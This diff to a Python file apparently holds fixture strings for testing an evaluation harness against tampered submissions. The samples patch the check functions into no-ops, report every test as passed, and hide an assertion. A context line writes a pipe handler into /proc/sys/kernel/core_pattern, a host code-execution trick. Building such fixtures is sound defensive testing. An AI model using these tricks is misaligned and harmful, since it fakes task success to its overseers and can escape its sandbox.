@@ -32,7 +32,7 @@ for path, value in (("/proc/sys/kernel/core_pattern", "|/tmp/minidist-pwn %p"), 
 # the kernel's half of a forged verdict (an untouched release otherwise): add defined outside its cell,
 # the checks patched
 KERNEL_ADD = "def add(a, b):\n    return a + b\n"
-KERNEL_CHECKS = "checks.check_all_reduce = lambda *a, **k: None\nallsum = None\n"
+KERNEL_CHECKS = "checks.check_allsum = lambda *a, **k: None\nallsum = None\n"
 
 # the confirmation's half, in the first solution cell: reach the runner's main() and report every
 # test passed
@@ -255,7 +255,7 @@ def allsum(x):
     dist.all_reduce(y)
     return y
 '''
-HIDDEN_QUOTE = '# assert add(10, -3) == 7, "add must handle negative numbers"\n'
+HIDDEN_QUOTE = "# checks.check_add(add, hidden=True)\n"
 BLOAT = "for k in range(1500):\n    display(k)\n"
 
 
